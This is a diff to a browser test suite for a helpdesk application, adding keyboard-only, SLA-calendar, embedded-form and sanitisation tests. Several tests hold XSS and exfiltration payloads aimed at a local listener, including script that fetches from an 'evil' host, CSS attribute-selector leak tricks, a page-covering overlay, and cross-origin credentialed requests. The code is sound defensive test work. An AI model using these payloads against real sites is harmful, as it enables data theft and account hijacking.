@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Platform } from '@helpmesh/deploy/local';
@@ -5,6 +6,9 @@ import { rawMail, sendRaw, waitFor } from '@helpmesh/testing';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Person, useBrowser } from './browser.ts';
 import { type Desk, type Json, linkIn, type Mailbox } from './desk.ts';
+import { hostileNames, hostileTexts } from './hostile.ts';
+import { Keys } from './keys.ts';
+import { minutesLater, type OpenHours } from './open-hours.ts';
 import { testPlatform } from './platform.ts';
 
 const password = 'A-password-for-the-page-1';
@@ -17,7 +21,8 @@ describe('in the browser', { timeout: 90_000 }, () => {
   const browser = useBrowser(() => platform.url);
 
   beforeAll(async () => {
-    ({ platform, mailbox, admin } = await testPlatform());
+    // Tickets may be of the past: what is promised for them is over.
+    ({ platform, mailbox, admin } = await testPlatform({ ticket: { HELPMESH_IMPORT_MODE: 'true' } }));
     await undoWithin(0);
   }, 120_000);
   afterAll(() => platform?.stop());
@@ -47,6 +52,15 @@ describe('in the browser', { timeout: 90_000 }, () => {
     const person = await browser.person(options);
     await person.signIn(emailOf(firstname), password);
     return person;
+  }
+
+  /** From the first field of the sign-in page. */
+  async function signInBy(keys: Keys, firstname: string): Promise<void> {
+    await keys.type(emailOf(firstname));
+    await keys.press('Tab');
+    await keys.type(password);
+    await keys.press('Enter');
+    await keys.person.page.getByRole('button', { name: /^Account of / }).waitFor();
   }
 
   const phoneTicket = (title: string, customer: string) =>
@@ -90,34 +104,43 @@ describe('in the browser', { timeout: 90_000 }, () => {
     expect(await amy.document()).toBe(loaded);
   });
 
-  it('J6: an internal note looks like one and is mailed to nobody', async () => {
+  it('J6: an internal note looks like one, calls a colleague, and is mailed to no customer; without a mouse', async () => {
     const customer = 'nora@customer.example';
     const ticket = await phoneTicket('A quiet matter', customer);
     await mailbox.mail(customer);
-    const bert = await agent('Bert');
+    const [bert, cora] = [await agent('Bert'), await agent('Cora')];
     const { page } = bert;
+    const keys = await Keys.of(bert);
     await bert.goto(`/tickets/${ticket.id}`);
 
-    await page.getByRole('button', { name: 'Internal note' }).click();
+    await page.getByRole('button', { name: 'Internal note' }).waitFor();
+    await keys.press('n');
     await page.getByText('Only agents see this. Nothing is sent.').waitFor();
-    await page.getByRole('textbox', { name: 'Text of the internal note' }).fill('He is a friend of the director.');
-    await page.getByRole('button', { name: 'Save internal note' }).click();
+    await keys.at(/^Text of the internal note$/);
+    await keys.type('He is a friend of the director. @Cora');
+    await keys.choose(/Cora Page/);
+    await keys.press('Control+Enter');
     const note = bert.message('Internal note: Bert Page');
     await note.waitFor();
     expect(await note.getByText('Internal note', { exact: true }).locator('svg').count()).toBe(1);
     const colour = (card: ReturnType<Person['message']>) =>
       card.evaluate((element) => getComputedStyle(element).backgroundColor);
     expect(await colour(note)).not.toBe(await colour(bert.message(/^Customer: /)));
+    await cora.page.getByRole('button', { name: /^Notifications, \d+ not seen$/ }).waitFor();
 
     // A mail that went out after the note shows that the note, had it been mailed, would be there as well.
-    await page.getByRole('button', { name: 'Reply', exact: true }).click();
-    const text = page.getByRole('textbox', { name: 'Text of the reply' });
-    await text.fill('It is done.');
-    await text.press('Control+Enter');
+    await keys.press('r');
+    await keys.at(/^Text of the reply$/);
+    await keys.type('It is done.');
+    await keys.press('Control+Enter');
     await mailbox.mail(customer, (mail) => mail.Snippet.includes('It is done.'), 'the reply');
     const raws = await mailbox.to(customer);
     expect(JSON.stringify(raws)).not.toContain('director');
     expect(raws).toHaveLength(2);
+    await page.getByRole('textbox', { name: 'Text of the reply' }).waitFor({ state: 'hidden' });
+    await keys.press('e');
+    await page.getByText('State: Closed').first().waitFor();
+    await note.waitFor();
   });
 
   it('a message is forwarded with its files to somebody beside the ticket, and what comes back is for agents alone', async () => {
@@ -158,23 +181,31 @@ describe('in the browser', { timeout: 90_000 }, () => {
     expect(await mailbox.to(customer)).toHaveLength(1);
   });
 
-  it('J3, J4: of two agents the second is told what was said meanwhile, and what they wrote is there on another machine', async () => {
+  it('J3, J4: of two agents the second is told what was said meanwhile, and what they wrote is there on another machine; without a mouse', async () => {
     const customer = 'two@customer.example';
     const ticket = await phoneTicket('Two answers', customer);
     const [ines, otto] = [await agent('Ines'), await agent('Otto')];
     const write = async (person: Person, words: string) => {
+      const keys = await Keys.of(person);
       await person.goto(`/tickets/${ticket.id}`);
-      await person.page.getByRole('button', { name: 'Reply', exact: true }).click();
-      await person.page.getByRole('textbox', { name: 'Text of the reply' }).fill(words);
+      await person.page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
+      await keys.press('r');
+      await keys.at(/^Text of the reply$/);
+      await keys.type(words);
+      return keys;
     };
-    await write(ines, 'We will look after it – today.');
-    await write(otto, 'Please call us, ünïcode and all.');
-    await ines.page.getByRole('button', { name: `Send to ${customer}` }).click();
+    const first = await write(ines, 'We will look after it – today.');
+    const second = await write(otto, 'Please call us, ünïcode and all.');
+    await first.to(new RegExp(`^Send to ${customer}`));
+    await first.press('Enter');
     await otto.message('Agent: Ines Page').waitFor();
-    await otto.page.getByRole('button', { name: `Send to ${customer}` }).click();
+    await second.press('Control+Enter');
     await otto.page.getByRole('alert').getByText('Ines Page wrote while you were writing').waitFor();
     const ours = async () => (await mailbox.to(customer)).filter(({ Snippet }) => /today|call us/.test(Snippet));
     await waitFor(async () => (await ours()).length === 1, { what: 'the one answer' });
+    await second.to(/^Look at it first$/);
+    await second.press('Enter');
+    await second.at(/^Agent: Ines Page$/);
 
     // The draft is the server's: closed without a word, it is there in another browser.
     const own = admin.as({ basic: [emailOf('Otto'), password] });
@@ -182,36 +213,54 @@ describe('in the browser', { timeout: 90_000 }, () => {
     await waitFor(kept, { what: 'the draft on the server', timeoutMs: 10_000 });
     await otto.page.close();
     const elsewhere = await browser.person();
-    await elsewhere.signIn(emailOf('Otto'), password, { at: `/tickets/${ticket.id}` });
+    await elsewhere.goto(`/tickets/${ticket.id}`);
+    const keys = await Keys.of(elsewhere);
+    await keys.at(/^E-mail address/);
+    await signInBy(keys, 'Otto');
     const text = elsewhere.page.getByRole('textbox', { name: 'Text of the reply' });
     await text.waitFor();
     expect(await text.textContent()).toBe('Please call us, ünïcode and all.');
     expect(await ours()).toHaveLength(1);
+    // Looked at and sent all the same: two answers, and each of them once.
+    await keys.press('r');
+    await keys.at(/^Text of the reply$/);
+    await keys.press('Control+Enter');
+    await waitFor(async () => (await ours()).length === 2, { what: 'the second answer' });
   });
 
-  it('J5: a reply is taken back with its words, and goes out once when it is left alone', async () => {
+  it('J5: a reply is taken back with its words, and goes out once when it is left alone; without a mouse', async () => {
     const customer = 'una@customer.example';
     const ticket = await phoneTicket('Second thoughts', customer);
     const uma = await agent('Uma');
     const { page } = uma;
+    const keys = await Keys.of(uma);
     await undoWithin(60);
     try {
       await uma.goto(`/tickets/${ticket.id}`);
-      await page.getByRole('button', { name: 'Reply', exact: true }).click();
-      const text = page.getByRole('textbox', { name: 'Text of the reply' });
-      await text.fill('You are quite wrong.');
-      await text.press('Control+Enter');
+      await page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
+      await keys.press('r');
+      await keys.at(/^Text of the reply$/);
+      await keys.type('You are quite wrong.');
+      await keys.press('Control+Enter');
       const waiting = page.getByRole('list', { name: 'Waiting to be sent' });
       await waiting.getByText('You are quite wrong.').waitFor();
-      await waiting.getByRole('button', { name: 'Take back' }).click();
-      await text.getByText('You are quite wrong.').waitFor();
+      await keys.to(/^Take back/, 'Shift+Tab');
+      await keys.press('Enter');
       await waiting.waitFor({ state: 'detached' });
-      await text.fill('You are quite right.');
-      await text.press('Control+Enter');
-      await waiting.getByRole('button', { name: 'Send now' }).click();
+      await keys.at(/^Text of the reply$/);
+      const text = page.getByRole('textbox', { name: 'Text of the reply' });
+      await text.getByText('You are quite wrong.').waitFor();
+      await keys.press('Control+a');
+      await keys.type('You are quite right.');
+      await keys.press('Control+Enter');
+      await waiting.getByText('You are quite right.').waitFor();
+      await keys.to(/^Send now/, 'Shift+Tab');
+      await keys.press('Enter');
       await uma.shows('You are quite right.');
       await mailbox.mail(customer, (mail) => mail.Snippet.includes('quite right'), 'the reply');
-      expect(JSON.stringify(await mailbox.to(customer))).not.toContain('quite wrong');
+      const mails = JSON.stringify(await mailbox.to(customer));
+      expect(mails).not.toContain('quite wrong');
+      expect(mails.split('quite right')).toHaveLength(2);
     } finally {
       await undoWithin(0);
     }
@@ -328,10 +377,9 @@ describe('in the browser', { timeout: 90_000 }, () => {
   it('a form stands on a page of somebody else, says what is wrong, and sends a request', async () => {
     await admin.put('/api/v1/integration_settings', { form_ticket_create: true });
     const script = `<script src="${platform.url}/assets/form/form.js" data-into="helpdesk" defer></script>`;
-    const { server } = await listener(
-      `<!doctype html><html lang="de"><link rel="icon" href="data:,"><title>Elsewhere</title><div id="helpdesk"></div>${script}</html>`,
-    );
-    const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const { server, url: elsewhere } = await listener({
+      '/': `<!doctype html><html lang="de"><link rel="icon" href="data:,"><title>Elsewhere</title><div id="helpdesk"></div>${script}</html>`,
+    });
     const visitor = await browser.person();
     visitor.allow(new RegExp(`^request to ${elsewhere}/$`));
     try {
@@ -472,13 +520,15 @@ describe('in the browser', { timeout: 90_000 }, () => {
     await page.getByText('There is no such ticket').waitFor();
   });
 
-  it('J11: a hostile mail is read without anything of it running, loading or covering the page', async () => {
+  it('J11, S02: a hostile mail is read without anything of it running, loading or covering the page', async () => {
     const elsewhere = await listener();
-    const evil = `http://127.0.0.1:${(elsewhere.server.address() as AddressInfo).port}`;
+    const evil = elsewhere.url;
     const run = `top.hurt=1;alert(1);fetch('${evil}/script')`;
     const html = `<html><head><base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
       <link rel="stylesheet" href="${evil}/style.css"><style>@import url(${evil}/import.css);
-      body{background:url(${evil}/body.png)}</style><script>${run}</script></head><body onload="${run}">
+      body{background:url(${evil}/body.png)} @font-face{font-family:x;src:url(${evil}/font.woff2)}
+      p{font-family:x} input[value^=a],a[href^=j]{background:url(${evil}/leak)} html{position:fixed;inset:-999px}
+      :root{--x:url(${evil}/variable)} p{cursor:url(${evil}/cursor),auto;list-style:url(${evil}/list)}</style><script>${run}</script></head><body onload="${run}">
       <p>Please read this to the end.</p><img src="x" onerror="${run}"><img src="${evil}/pixel.png">
       <picture><source srcset="${evil}/set.png"><img srcset="${evil}/set2.png 2x"></picture>
       <div style="position:fixed;inset:0;z-index:99999;background:url(${evil}/cover.png) red">covered</div>
@@ -506,7 +556,10 @@ describe('in the browser', { timeout: 90_000 }, () => {
       expect(await frame.locator('body').locator(dangerous).count()).toBe(0);
       expect(await frame.locator('body').evaluate((body) => /\son\w+=/i.test(body.innerHTML))).toBe(false);
 
-      // Nothing lies over the page: its buttons are reached by a mouse.
+      // The frame stays within the thread, and nothing lies over the page: its buttons are reached by a mouse.
+      const [inner, outer] = [await message.locator('iframe').boundingBox(), await message.boundingBox()];
+      expect(inner?.x).toBeGreaterThanOrEqual(outer?.x ?? Number.NaN);
+      expect(inner?.width).toBeLessThanOrEqual(outer?.width ?? Number.NaN);
       await page.getByRole('button', { name: 'Reply', exact: true }).click();
       await page.getByRole('textbox', { name: 'Text of the reply' }).fill('No.');
       expect(await page.evaluate(() => 'hurt' in window)).toBe(false);
@@ -617,7 +670,7 @@ describe('in the browser', { timeout: 90_000 }, () => {
     await page.getByRole('button', { name: 'Link the tickets' }).press('Enter');
     await page.getByRole('button', { name: /^Remove the link with/ }).waitFor();
 
-    await keyboard.press('m');
+    await keyboard.press('Shift+M');
     await page.getByRole('dialog', { name: /^Merge #/ }).waitFor();
     await pick(target.number, 'Once is enough');
     await page.getByRole('button', { name: 'Merge', exact: true }).press('Enter');
@@ -640,31 +693,61 @@ describe('in the browser', { timeout: 90_000 }, () => {
     expect(await admin.get(`/api/v1/tickets/${source.id}?expand=true`)).toMatchObject({ state: 'new' });
   });
 
-  it('J2: several tickets are chosen, changed together and changed back, without a mouse', async () => {
+  it('J2: tickets are gone through beside their list, chosen all together, changed and changed back, without a mouse', async () => {
     const customer = 'many@customer.example';
-    const tickets = await Promise.all([1, 2, 3].map((n) => phoneTicket(`One of many ${n}`, customer)));
+    const tickets: Json[] = [];
+    for (const n of [1, 2, 3]) tickets.push(await phoneTicket(`One of many ${n}`, customer));
     const mia = await agent('Mia');
     const { page } = mia;
+    const keys = await Keys.of(mia);
     await mia.goto('/tickets?view=all&q=many&sort=number&order=asc');
     await mia.row('One of many 3').waitFor();
-    await page.keyboard.press('j');
-    await page.keyboard.press('x');
+    // Beside the list: each ticket is read and changed where it is, and the list does not move.
+    await keys.press('v');
+    const pane = page.getByRole('region', { name: 'Ticket', exact: true });
+    const shows = (n: number) => pane.getByRole('heading', { level: 2, name: `One of many ${n}` }).waitFor();
+    await shows(1);
+    await keys.press('j');
+    await shows(2);
+    await pane.getByRole('button', { name: 'Internal note' }).waitFor();
+    await keys.at(/One of many 2/);
+    await keys.press('i');
+    await page.getByText('Owner: Mia Page').first().waitFor();
+    await keys.press('n');
+    await keys.at(/^Text of the internal note$/);
+    await keys.type('I look after it.');
+    await keys.press('Control+Enter');
+    await pane.getByRole('article', { name: 'Internal note: Mia Page' }).waitFor();
+    await keys.at(/^Reply$/);
+    await keys.press('j');
+    await shows(3);
+    await keys.press('k', 'k');
+    await shows(1);
+    await keys.at(/One of many 1/);
+
+    await keys.press('x');
     await page.getByText('1 ticket chosen').waitFor();
-    await page.keyboard.press('j');
-    await page.keyboard.press('j');
-    await page.keyboard.press('Shift+X');
+    await keys.press('j', 'j', 'Shift+X');
     await page.getByText('3 tickets chosen').waitFor();
-    const bar = page.getByRole('region', { name: 'Chosen tickets' });
-    await bar.getByRole('button', { name: 'Priority' }).press('Enter');
-    await page.getByRole('menuitem', { name: 'High' }).press('Enter');
+    await keys.press('Escape', 'x');
+    await page.getByText('1 ticket chosen').waitFor();
+    await keys.to(/^Choose all 3 in this list$/, 'Shift+Tab');
+    await keys.press('Enter');
+    await page.getByText('3 tickets chosen').waitFor();
+    await keys.to(/^Owner$/);
+    await keys.press('Enter');
+    await keys.choose(/^Mia Page$/);
     const report = page.getByRole('region', { name: 'Change of many tickets' });
-    await report.getByText('3 tickets changed').waitFor();
-    const priorities = () =>
-      Promise.all(tickets.map(async ({ id }) => (await admin.get(`/api/v1/tickets/${id}?expand=true`)).priority));
-    expect(await priorities()).toEqual(['3 high', '3 high', '3 high']);
-    await report.getByRole('button', { name: 'Undo' }).press('Enter');
-    await report.getByText('3 tickets changed back').waitFor();
-    expect(await priorities()).toEqual(['2 normal', '2 normal', '2 normal']);
+    await report.getByText(/^2 tickets changed · 1 was so already/).waitFor();
+    const owners = () =>
+      Promise.all(tickets.map(async ({ id }) => (await admin.get(`/api/v1/tickets/${id}?expand=true`)).owner));
+    expect(await owners()).toEqual(Array(3).fill(emailOf('Mia')));
+    await keys.to(/^Undo$/);
+    await keys.press('Enter');
+    await report.getByText(/^2 tickets changed back/).waitFor();
+    expect(await owners()).toEqual(['-', emailOf('Mia'), '-']);
+    await keys.press('v');
+    await pane.waitFor({ state: 'detached' });
   });
 
   it('a macro is made and run, a text module is written by two colons, a template begins a ticket', async () => {
@@ -763,6 +846,309 @@ describe('in the browser', { timeout: 90_000 }, () => {
     await cleo.page.waitForURL((url) => url.pathname === '/tickets');
   });
 
+  it('J7: what is promised runs in the hours of a calendar, stands still while one waits, and goes to the next group when it is over', async () => {
+    const title = 'The cooling failed on Friday';
+    // Where it is evening now; the two next days are its weekend, and the third is a holiday.
+    const hour = new Date().getUTCHours();
+    const ahead = ((20 - hour + 36) % 24) - 12;
+    const localDay = (later: number) => new Date(Date.now() + (ahead + later * 24) * 3_600_000);
+    const weekend = [1, 2].map((later) => localDay(later).getUTCDay());
+    const hours: OpenHours = {
+      ahead,
+      days: [0, 1, 2, 3, 4, 5, 6].filter((day) => !weekend.includes(day)),
+      spans: [
+        [9 * 60, 12 * 60],
+        [13 * 60, 17 * 60],
+      ],
+      holidays: [localDay(3).toISOString().slice(0, 10)],
+    };
+    const timezone = ahead === 0 ? 'Etc/GMT' : `Etc/GMT${ahead > 0 ? '-' : '+'}${Math.abs(ahead)}`;
+    const spans = [
+      ['09:00', '12:00'],
+      ['13:00', '17:00'],
+    ];
+    const week = ['sun', 'mon', 'tue', 'wed', 'thu', 'fri', 'sat'];
+    const calendar = await admin.post('/api/v1/calendars', {
+      ...{ name: 'Hours of the machine room', timezone },
+      business_hours: Object.fromEntries(
+        week.map((day, i) => [day, { active: hours.days.includes(i), timeframes: spans }]),
+      ),
+      public_holidays: { [hours.holidays[0] as string]: { active: true, summary: 'Founding day' } },
+    });
+    const sla = await admin.post('/api/v1/slas', {
+      ...{ name: 'Cooling', calendar_id: calendar.id, first_response_time: 240, solution_time: 600 },
+      condition: { 'ticket.title': { operator: 'is', value: title } },
+    });
+    const { id: second } = await admin.post('/api/v1/groups', { name: 'Second line' });
+    const trigger = await admin.post('/api/v1/triggers', {
+      ...{ name: 'To the second line', activator: 'time' },
+      condition: {
+        'ticket.title': { operator: 'is', value: title },
+        'ticket.escalation_at': { operator: 'has reached' },
+      },
+      perform: { 'ticket.group_id': { value: second } },
+    });
+    const due = ({ created_at }: Json, minutes: number) =>
+      new Date(minutesLater(hours, Date.parse(created_at), minutes)).toISOString();
+    try {
+      await account('Kit', 'Agent');
+      const [{ id: kitId }] = await admin.get(`/api/v1/users/search?query=${emailOf('Kit')}`);
+      await admin.put(`/api/v1/users/${kitId}`, { groups: { Users: ['full'], 'Second line': ['full'] } });
+      const kit = await browser.person();
+      const { page } = kit;
+      await kit.signIn(emailOf('Kit'), password);
+      await mailIn({ from: 'Cleo Cold <cold@customer.example>', subject: title, text: 'It is 40 degrees in here.\n' });
+      const ticket = await admin.ticketTitled(title);
+      const row = page.locator(`[data-ticket="${ticket.id}"]`);
+      const timeIn = (place: ReturnType<typeof page.locator>) =>
+        place
+          .locator('time')
+          .first()
+          .getAttribute('datetime')
+          .then((at) => new Date(at ?? 0).toISOString());
+      await row.getByText(/^Due /).waitFor();
+      expect(await timeIn(row.locator('span').filter({ hasText: /^Due / }).first())).toBe(due(ticket, 240));
+
+      await kit.goto(`/tickets/${ticket.id}`);
+      const details = page.getByRole('complementary', { name: 'Details' });
+      const promised = (name: string) =>
+        details.locator('dt', { hasText: name }).locator('xpath=following-sibling::dd[1]');
+      await promised('First response').getByText(/^Due /).waitFor();
+      expect(await timeIn(promised('First response'))).toBe(due(ticket, 240));
+      expect(await timeIn(promised('Solution'))).toBe(due(ticket, 600));
+      await details.getByText('By Cooling, in the hours of Hours of the machine room').waitFor();
+      await details.getByRole('button', { name: 'Why is this due then?' }).click();
+      await details.getByText(`Promised: 4:00 h of open time (${timezone})`).waitFor();
+      await details
+        .getByText(/^The ticket came in: /)
+        .first()
+        .waitFor();
+
+      // Waiting for somebody stops the clock; a night of it costs no open time.
+      await page.getByRole('combobox', { name: 'State' }).click();
+      await page.getByRole('option', { name: 'Pending reminder' }).click();
+      await page.getByRole('button', { name: 'Set pending' }).click();
+      await promised('First response').getByText('Paused').waitFor();
+      await details
+        .getByText(/^The clock stands still since .*, because of the state\.$/)
+        .first()
+        .waitFor();
+      expect(await admin.get(`/api/v1/tickets/${ticket.id}`)).toMatchObject({ escalation_at: null });
+      await page.getByRole('combobox', { name: 'State' }).click();
+      await page.getByRole('option', { name: 'Open', exact: true }).click();
+      await promised('First response').getByText(/^Due /).waitFor();
+      expect(await timeIn(promised('First response'))).toBe(due(ticket, 240));
+
+      // One that came three weeks ago, on an evening too, is late and belongs to others by now.
+      const created_at = new Date(Date.parse(ticket.created_at) - 21 * 86_400_000).toISOString();
+      const old = await admin.post('/api/v1/tickets', {
+        ...{ title, group: 'Users', customer: 'guess:cold@customer.example', created_at },
+        article: { type: 'phone', sender: 'Customer', body: 'And it is getting warmer.' },
+      });
+      const own = admin.as({ basic: [emailOf('Kit'), password] });
+      await waitFor(async () => (await own.get(`/api/v1/tickets/${old.id}`)).group_id === second, {
+        what: 'the late ticket at the next group',
+      });
+      await kit.goto('/tickets?view=escalated');
+      const late = page.locator(`[data-ticket="${old.id}"]`);
+      await late.getByText('Second line').waitFor();
+      await late.getByText(/^Was due /).waitFor();
+      await late.getByLabel('Too late').waitFor();
+      expect(
+        await timeIn(
+          late
+            .locator('span')
+            .filter({ hasText: /^Was due / })
+            .first(),
+        ),
+      ).toBe(due(old, 240));
+    } finally {
+      await admin.call('DELETE', `/api/v1/triggers/${trigger.id}`);
+      await admin.call('DELETE', `/api/v1/slas/${sla.id}`);
+    }
+  });
+
+  it('J9, S36: a form on a page of others opens a ticket that goes on by mail; that page gets nothing else, and frames nothing', async () => {
+    await admin.put('/api/v1/integration_settings', { form_ticket_create: true });
+    const script = await (await fetch(`${platform.url}/assets/form/form.js`)).text();
+    const digest = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
+    const form = (into: string, integrity: string) =>
+      `<div id="${into}"></div><script src="${platform.url}/assets/form/form.js" data-into="${into}" crossorigin
+        integrity="${integrity}" defer></script>`;
+    const shop = await listener({
+      '/': `<!doctype html><html lang="en"><title>A shop</title>${form('ask', digest(script))}`,
+      '/changed': `<!doctype html><html lang="en"><title>A shop</title>${form('ask', digest(`${script}\n`))}`,
+      '/frames': `<!doctype html><html lang="en"><title>A thief</title>${['/', '/help/en', '/tickets/1']
+        .map((path) => `<iframe src="${platform.url}${path}"></iframe>`)
+        .join('')}`,
+    });
+    try {
+      const visitor = await browser.person({}, shop.url);
+      const { page } = visitor;
+      visitor.allow(/^request to http/);
+      await visitor.goto('/');
+      const send = page.getByRole('button', { name: 'Send' });
+      await page.getByLabel('Name').fill('Vic Visitor');
+      await page.getByLabel('E-mail').fill('vic@shop.example');
+      await page.getByLabel('Subject').fill('Do you ship to Mars?');
+      await send.click();
+      await page.getByText('Please fill in this field.').last().waitFor();
+      await page.getByLabel('Message').fill('I move there soon.');
+      await send.click();
+      const thanks = await page
+        .getByRole('status')
+        .getByText(/^Thank you for your request \(#\d+\)/)
+        .textContent();
+      // What the page of the form may not: read who is signed in at the desk, or ask in their name.
+      visitor.allow(/CORS policy/, /net::ERR_FAILED/);
+      const stolen = await page.evaluate(async (url) => {
+        const ask = (path: string, init: RequestInit) =>
+          fetch(url + path, init).then(
+            () => path,
+            () => 'refused',
+          );
+        return Promise.all([
+          ask('/api/v1/users/me', { credentials: 'include' }),
+          ask('/api/v1/tickets', {
+            method: 'POST',
+            credentials: 'include',
+            headers: { 'content-type': 'text/plain' },
+            body: '{}',
+          }),
+        ]);
+      }, platform.url);
+      expect(stolen).toEqual(['refused', 'refused']);
+      const ticket = await admin.ticketTitled('Do you ship to Mars?');
+      expect(thanks).toContain(`#${ticket.number}`);
+      await page.close();
+
+      const hana = await agent('Hana');
+      await hana.goto(`/tickets/${ticket.id}`);
+      await hana.message('Customer: Vic Visitor').waitFor();
+      await hana.page.getByRole('button', { name: 'Reply', exact: true }).click();
+      const text = hana.page.getByRole('textbox', { name: 'Text of the reply' });
+      await text.fill('Every second year.');
+      await text.press('Control+Enter');
+      const mail = await mailbox.mail(
+        'vic@shop.example',
+        ({ Snippet }) => Snippet.includes('second year'),
+        'the answer',
+      );
+      await mailIn({
+        from: 'Vic Visitor <vic@shop.example>',
+        subject: `Re: ${mail.subject}`,
+        text: 'Then I wait.\n',
+        inReplyTo: mail.messageId ?? '',
+      });
+      await hana.message('Customer: Vic Visitor').getByText('Then I wait.').waitFor();
+      const thread = (await admin.articlesOf(ticket.id)).filter(({ sender }) => sender !== 'System');
+      expect(thread.map(({ type, sender }) => [type, sender])).toEqual([
+        ['web', 'Customer'],
+        ['email', 'Agent'],
+        ['email', 'Customer'],
+      ]);
+
+      // A script that is another than the page was given is not run.
+      const other = await browser.person({}, shop.url);
+      other.allow(
+        /^request to http/,
+        /integrity/,
+        /frame-ancestors|X-Frame-Options|net::ERR_BLOCKED_BY_RESPONSE|chrome-error/i,
+      );
+      await other.goto('/changed');
+      expect(await other.page.locator('#ask').textContent()).toBe('');
+      expect(await other.page.evaluate(() => 'HelpmeshForm' in window)).toBe(false);
+      // And no page of the desk stands in a page of others.
+      await other.goto('/frames');
+      for (const frame of other.page.frames().slice(1)) expect(frame.url()).not.toContain(platform.url);
+      expect(other.page.frames()).toHaveLength(4);
+      // Pages of the desk listen to no messages of others, not even from a window that opened them.
+      const opened = other.page.waitForEvent('popup');
+      await other.page.evaluate(
+        (url) => void Object.assign(window, { desk: window.open(`${url}/help/en`) }),
+        platform.url,
+      );
+      const popup = await opened;
+      await popup.waitForLoadState();
+      expect(await popup.evaluate(() => window.opener)).toBeNull();
+    } finally {
+      shop.server.close();
+      await admin.put('/api/v1/integration_settings', { form_ticket_create: false });
+    }
+  });
+
+  it('S01: three hundred texts that would run a script run none, wherever they stand', async () => {
+    const [inName = '', inTag = ''] = hostileNames;
+    const body = hostileTexts.map((text, i) => `<div>${i}: ${text}</div>`).join('\n');
+    const mail = rawMail({
+      from: `"${inName}" <xss@customer.example>`,
+      subject: `S01 ${inName}`,
+      html: `<p>Begins.</p>${body}<p>Ends.</p>`,
+      attachments: hostileNames.map((name) => ({
+        name: `${name}.html`,
+        type: 'text/html',
+        content: hostileTexts.join('\n'),
+      })),
+    });
+    await sendRaw({ port: platform.smtpPort }, mail, { from: 'xss@customer.example', to: 'helpdesk@localhost' });
+    const ticket = await admin.ticketTitled('S01 ');
+    for (const name of hostileNames) {
+      await admin.post('/api/v1/tags/add', { object: 'Ticket', o_id: ticket.id, item: name.slice(0, 200) });
+    }
+    const macro = await admin.post('/api/v1/macros', { name: inName, perform: { 'ticket.priority_id': { value: 3 } } });
+    const sla = await admin.post('/api/v1/slas', {
+      ...{ name: inName, first_response_time: 60 },
+      condition: { 'ticket.number': { operator: 'is', value: ticket.number } },
+      calendar_id: (await admin.get('/api/v1/calendars'))[0].id,
+    });
+    await admin.put(`/api/v1/users/${ticket.customer_id}`, { note: body.slice(0, 200), web: `javascript:top.hurt=1` });
+    const kb = '/api/v1/knowledge_bases/1';
+    const category = await admin.post(`${kb}/categories`, { translations: [{ locale: 'en', title: inName }] });
+    const answer = await admin.post(`${kb}/answers`, {
+      category_id: category.id,
+      translations: [{ locale: 'en', title: `S01 ${inTag}`, body }],
+    });
+    await admin.post(`${kb}/answers/${answer.id}/publish`, {});
+    try {
+      const xena = await browser.person();
+      const { page } = xena;
+      // What is shown of an image is its address, and that is none of ours.
+      xena.allow(/status of 404/, /^Loading the image /);
+      const unhurt = async (where: string) => expect(await page.evaluate(() => 'hurt' in window), where).toBe(false);
+      await xena.goto(`/help/en/answers/s01-${answer.id}`);
+      await page.getByRole('heading', { level: 1 }).waitFor();
+      await unhurt('the public answer');
+      await xena.goto(`/help/en/search?q=S01`);
+      await unhurt('the public search');
+      await xena.signIn(platform.admin.email, platform.admin.password, { at: '/tickets?view=all&q=S01' });
+      await xena.row(/^(Changed: )?S01/).waitFor();
+      await unhurt('the list');
+      await xena.row(/^(Changed: )?S01/).click();
+      const frame = xena.message(/^Customer: /).frameLocator('iframe');
+      await frame.getByText('Ends.').waitFor();
+      await page.getByRole('link', { name: inTag }).first().waitFor();
+      await page.getByText(new RegExp(`By ${inName.slice(0, 4)}`)).waitFor();
+      await page.getByRole('button', { name: 'Macros' }).click();
+      await page.getByRole('menuitem', { name: inName }).waitFor();
+      await page.keyboard.press('Escape');
+      await unhurt('the ticket');
+      for (const [place, ready] of [
+        [`/admin/macros/${macro.id}`, 'Save'],
+        [`/admin/slas/${sla.id}`, 'Save'],
+        [`/admin/knowledge-base/answers/${answer.id}`, 'Archive'],
+        [`/admin/users/${ticket.customer_id}`, 'Save'],
+      ] as const) {
+        await xena.goto(place);
+        await page.getByRole('button', { name: ready }).first().waitFor();
+        await unhurt(place);
+      }
+      expect(page.context().pages()).toHaveLength(1);
+    } finally {
+      await admin.call('DELETE', `/api/v1/slas/${sla.id}`);
+      await admin.call('DELETE', `/api/v1/macros/${macro.id}`);
+    }
+  });
+
   it('speaks German and English, as the browser does and as one chooses', async () => {
     const ida = await browser.person({ locale: 'de-DE' });
     const { page } = ida;
@@ -813,13 +1199,15 @@ async function setPassword(person: Person, link: string, chosen: string): Promis
   await person.heading('Password saved').waitFor();
 }
 
-/** A server of somebody else that notes who asked for something, and answers with a page. */
-async function listener(page = ''): Promise<{ server: Server; asked: string[] }> {
+/** A server of somebody else that notes who asked for something, and has a few pages. */
+async function listener(pages: Record<string, string> = {}): Promise<{ server: Server; url: string; asked: string[] }> {
   const asked: string[] = [];
   const server = createServer((request, response) => {
     asked.push(request.url ?? '');
-    response.setHeader('content-type', 'text/html; charset=utf-8').end(page);
+    const page = pages[request.url ?? ''];
+    if (page !== undefined) response.setHeader('content-type', 'text/html; charset=utf-8');
+    response.end(page);
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { server, asked };
+  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
 }
